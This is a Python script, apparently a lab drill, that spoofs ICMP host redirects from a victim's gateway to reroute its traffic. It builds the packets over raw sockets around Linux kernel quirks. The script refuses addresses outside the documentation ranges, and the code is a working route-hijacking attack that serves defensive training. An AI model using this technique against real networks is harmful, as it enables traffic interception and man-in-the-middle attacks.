# Copyright (c) netdevops.icmp contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The rogue of drill ``redirect``: an ICMP host redirect spoofed from the gateway (stdlib only).

Runs inside the rogue's lab namespace and sends COUNT redirects (type 5 code 1) to VICTIM, with
the gateway's address as source, saying "for DESTINATION use NEW_GATEWAY". Every address must be
in the documentation ranges the lab uses (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24): the
script refuses anything else, so it cannot send outside a lab. Prints one JSON line.

Linux quirks the packet is built around (net/ipv4/route.c, __ip_do_redirect, and icmp_err):
- the quoted datagram is an ICMP echo *reply* from VICTIM to DESTINATION: a quoted echo request
  goes to the ping sockets' error handler, which ignores redirects;
- the source must be the gateway the victim's route uses, the new gateway must be on-link;
- the victim installs the next hop only once its neighbour entry is valid; the first redirect
  makes it resolve NEW_GATEWAY, so the drill lets the rogue answer for it and sends several.
"""
from __future__ import annotations

import argparse
import ipaddress
import json
import socket
import struct
import sys
import time

LAB_RANGES = tuple(ipaddress.ip_network(n) for n in ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24"))
ICMP_REDIRECT, REDIRECT_HOST, ICMP_ECHO_REPLY = 5, 1, 0


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def ipv4_header(source: str, destination: str, payload_len: int, protocol: int = socket.IPPROTO_ICMP) -> bytes:
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + payload_len, 0, 0, 64, protocol, 0,
                         socket.inet_aton(source), socket.inet_aton(destination))
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:]


def redirect_packet(gateway: str, victim: str, destination: str, new_gateway: str) -> bytes:
    echo = struct.pack("!BBHHH", ICMP_ECHO_REPLY, 0, 0, 0x4E44, 1)
    echo = echo[:2] + struct.pack("!H", checksum(echo)) + echo[4:]
    quoted = ipv4_header(victim, destination, len(echo)) + echo
    icmp = struct.pack("!BBH4s", ICMP_REDIRECT, REDIRECT_HOST, 0, socket.inet_aton(new_gateway)) + quoted
    icmp = icmp[:2] + struct.pack("!H", checksum(icmp)) + icmp[4:]
    return ipv4_header(gateway, victim, len(icmp)) + icmp


def lab_address(text: str) -> str:
    try:
        address = ipaddress.IPv4Address(text)
    except ValueError as err:
        raise argparse.ArgumentTypeError("%r is not an IPv4 address" % text) from err
    if not any(address in network for network in LAB_RANGES):
        raise argparse.ArgumentTypeError("%s is outside the lab's documentation ranges %s; refusing to send"
                                         % (address, ", ".join(str(n) for n in LAB_RANGES)))
    return str(address)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--gateway", type=lab_address, required=True, help="spoofed source: the victim's gateway")
    parser.add_argument("--victim", type=lab_address, required=True)
    parser.add_argument("--destination", type=lab_address, required=True, help="whose route to redirect")
    parser.add_argument("--new-gateway", type=lab_address, required=True)
    parser.add_argument("--count", type=int, default=3, choices=range(1, 21), metavar="1..20")
    parser.add_argument("--interval", type=float, default=0.5)
    args = parser.parse_args()
    packet = redirect_packet(args.gateway, args.victim, args.destination, args.new_gateway)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        for index in range(args.count):
            sock.sendto(packet, (args.victim, 0))
            if index + 1 < args.count:
                time.sleep(max(0.0, min(args.interval, 5.0)))
    json.dump({"sent": args.count, "gateway": args.gateway, "victim": args.victim,
               "destination": args.destination, "new_gateway": args.new_gateway}, sys.stdout)
    sys.stdout.write("\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
